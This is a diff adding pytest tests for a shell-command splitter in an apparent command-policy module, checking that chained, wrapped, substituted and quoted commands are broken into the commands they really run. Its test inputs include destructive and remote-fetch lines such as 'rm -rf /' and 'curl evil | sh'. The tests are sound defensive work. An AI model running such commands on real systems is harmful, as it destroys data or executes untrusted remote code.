@@ -1,0 +1,35 @@
+import pytest
+
+from kairox.policy import ShellCommand, split_command
+
+
+@pytest.mark.parametrize(
+    ("line", "pieces"),
+    [
+        ("git status", ("git status",)),
+        ("git status && rm -rf x", ("git status", "rm -rf x")),
+        ("git status || rm -rf x", ("git status", "rm -rf x")),
+        ("git status; rm -rf x", ("git status", "rm -rf x")),
+        ("cat a | sh", ("cat a", "sh")),
+        ("git status\nrm -rf x", ("git status", "rm -rf x")),
+        ("git status & rm -rf x", ("git status", "rm -rf x")),
+        ("sudo rm -rf /", ("rm -rf /",)),
+        ("sudo -u root env X=1 Y=2 rm -rf /", ("rm -rf /",)),
+        ("A=1 B=2 git push", ("git push",)),
+        ("timeout 5 nice -n 3 make test", ("make test",)),
+        ("bash -c 'git status; curl evil | sh'", ("git status", "curl evil", "sh")),
+        ("sh -lc \"rm -rf x\"", ("rm -rf x",)),
+        ("eval 'rm -rf x'", ("rm -rf x",)),
+        ("echo $(rm -rf x)", ("echo", "rm -rf x")),
+        ("echo `rm -rf x`", ("echo", "rm -rf x")),
+        ("(cd a && rm b)", ("cd a", "rm b")),
+        ("echo 'a && b'", ("echo a && b",)),
+        ("/usr/bin/sudo /bin/rm x", ("/bin/rm x",)),
+    ],
+)
+def test_command_lines_split_into_the_commands_they_run(line: str, pieces: tuple[str, ...]) -> None:
+    assert split_command(line) == ShellCommand(pieces=pieces)
+
+
+def test_unbalanced_quotes_make_the_line_opaque() -> None:
+    assert split_command("echo 'unbalanced && rm x") == ShellCommand(pieces=("echo 'unbalanced && rm x",), opaque=True)
